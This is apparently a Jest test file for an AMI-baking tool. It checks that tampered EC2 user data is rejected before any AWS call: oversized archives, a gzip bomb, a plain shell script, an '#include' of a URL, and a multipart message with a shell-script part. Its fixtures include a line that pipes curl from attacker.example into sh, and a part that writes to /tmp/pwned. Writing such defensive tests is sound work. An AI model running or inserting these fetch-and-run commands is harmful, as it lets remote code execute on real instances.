/**
 * Attack: userdata.gz is the artifact's. Oversized (the build would read any size), a gzip bomb
 * (the build gunzips it to append its part), or not the message prepare writes: a shell script,
 * a single cloud-config, a part of another type that cloud-init would run as a script.
 * Defence: before any AWS call, at most 16,384 bytes before gunzip, inflated no further than
 * USERDATA_TEXT_LIMIT, and exactly the MIME multipart prepare writes; errors name the file.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, jest, test } from '@jest/globals';
import { prepare } from '../../src/compile/prepare.js';
import {
  USERDATA_TEXT_LIMIT,
  gzipUserdata,
  parseMultipart,
  readUserdata,
  renderMultipart,
} from '../../src/core/userdata.js';
import { readWithCloudInit } from '../support/cloudinit.js';
import { useBake } from '../support/bake-harness.js';
import { ROOT } from '../support/runner.js';
import { makePrepared } from '../bake/fixture.js';
import { bakeInProcess, buildEnv, captureLogger, tempDir } from '../bake/helpers.js';
import { noAwsCallCheck, rewriteVars } from './artifact-support.js';

jest.setTimeout(90_000);
const m = useBake({ beforeAll, afterAll, beforeEach, afterEach }, { processEnv: true });
const noAwsCall = noAwsCallCheck(m, m);

const PART = (type: string, name: string, body: string, boundary: string) =>
  `--${boundary}\nContent-Type: ${type}; charset="utf-8"\nMIME-Version: 1.0\n` +
  `Content-Disposition: attachment; filename="${name}"\n\n${body}`;

/** A prepared folder whose userdata.gz is `userdata`, vars.env otherwise honest about it. */
async function withUserdata(userdata: Buffer): Promise<string> {
  const f = await makePrepared({ fsMode: 'inline' });
  rewriteVars(f.dir, () => {}, { userdata });
  return f.userdataPath;
}

/** The bake's error; asserts that it made no AWS call and left nothing behind. */
async function refused(userdataPath: string): Promise<string> {
  const r = await noAwsCall(() => bakeInProcess(userdataPath, buildEnv(m.ids)));
  expect(r.result).toBeUndefined();
  return r.error?.message ?? '';
}

describe('userdata.gz is checked before any AWS call', () => {
  test('more than 16,384 bytes: refused by its size, before it is gunzipped', async () => {
    const big = gzipSync(randomBytes(16_500), { level: 0 });
    expect(big.length).toBeGreaterThan(16_384);
    const path = await withUserdata(big);
    expect(await refused(path)).toBe(
      `${path}: ${big.length} bytes, more than EC2's limit of 16384 for user data: not what prepare writes`,
    );
  });

  test('a gzip bomb within 16,384 bytes: refused without being inflated', async () => {
    const bomb = gzipSync(Buffer.alloc(15 << 20, 'A'), { level: 9 });
    expect(bomb.length).toBeLessThanOrEqual(16_384);
    // zlib stops at the limit: the 15 MB are never produced (maxOutputLength).
    expect(() => readUserdata(bomb)).toThrow(`inflates to more than ${USERDATA_TEXT_LIMIT} bytes`);
    const path = await withUserdata(bomb);
    expect(await refused(path)).toBe(
      `${path}: inflates to more than ${USERDATA_TEXT_LIMIT} bytes: refused without inflating the rest (a gzip bomb?)`,
    );
  });

  test('not gzip at all', async () => {
    const path = await withUserdata(Buffer.from('#!/bin/sh\necho hi\n'));
    expect(await refused(path)).toMatch(new RegExp(`^${path}: not gzip'd user data \\(`));
  });

  test.each([
    ['a shell script', '#!/bin/sh\ncurl -s https://attacker.example/x | sh\n'],
    ['a single cloud-config', '#cloud-config\nruncmd: [[sh, -c, "id"]]\n'],
    ['an #include of a URL', '#include\nhttps://attacker.example/userdata\n'],
  ])('not multipart: %s', async (_what, text) => {
    const path = await withUserdata(gzipSync(text));
    expect(await refused(path)).toBe(
      `${path}: not the MIME multipart message amibake prepare writes (it starts with ${JSON.stringify(text.slice(0, 40))})`,
    );
  });

  test('a multipart with a part cloud-init would run as a shell script', async () => {
    const boundary = '==amibake-0123456789abcdef0123456789abcdef==';
    const text =
      `Content-Type: multipart/mixed; boundary="${boundary}"\nMIME-Version: 1.0\n\n` +
      PART('text/x-shellscript', '10_evil.sh', '#!/bin/sh\nid > /tmp/pwned\n', boundary) +
      `--${boundary}--\n`;
    const path = await withUserdata(gzipSync(text));
    // What the attack buys: cloud-init takes the part for a script.
    expect(readWithCloudInit(path).parts.map((p) => p.content_type)).toEqual(['text/x-shellscript']);
    expect(await refused(path)).toBe(
      `${path}: part 1 does not have the headers of a prepared cloud-config part`,
    );
  });

  test("prepare's parts under another boundary, or re-ordered: not what prepare writes", async () => {
    const parts = [
      { filename: '10_a.cfg', content: '#cloud-config\nbootcmd: [a]\n' },
      { filename: '20_b.cfg', content: '#cloud-config\nbootcmd: [b]\n' },
    ];
    const good = renderMultipart(parts);
    expect(parseMultipart(good)).toEqual(parts);
    const boundary = /boundary="([^"]+)"/.exec(good)![1];
    const foreign = good.replaceAll(boundary, '==amibake-ffffffffffffffffffffffffffffffff==');
    let path = await withUserdata(gzipUserdata(foreign));
    expect(await refused(path)).toBe(
      `${path}: the message differs from what prepare writes for the same parts (boundary or layout)`,
    );
    const [head, a, b] = good.split(`--${boundary}\n`);
    path = await withUserdata(
      gzipUserdata([head, b.replace(/--[^\n]*--\n$/, ''), a + `--${boundary}--\n`].join(`--${boundary}\n`)),
    );
    expect(await refused(path)).toBe(`${path}: the parts are not in the name order prepare writes them in`);
  });

  test("the real prepare's user data passes, and cloud-init reads the same cloud-config parts", async () => {
    const { logger } = captureLogger();
    const target = tempDir();
    const r = await prepare({
      source: join(ROOT, 'examples/web-server'),
      target,
      awsRegion: 'us-east-1',
      logger,
    });
    const ours = parseMultipart(readUserdata(readFileSync(r.userdataPath)));
    const seen = readWithCloudInit(r.userdataPath).parts;
    expect(seen.map((p) => p.filename)).toEqual(ours.map((p) => p.filename));
    expect(new Set(seen.map((p) => p.content_type))).toEqual(new Set(['text/cloud-config']));
  });
});
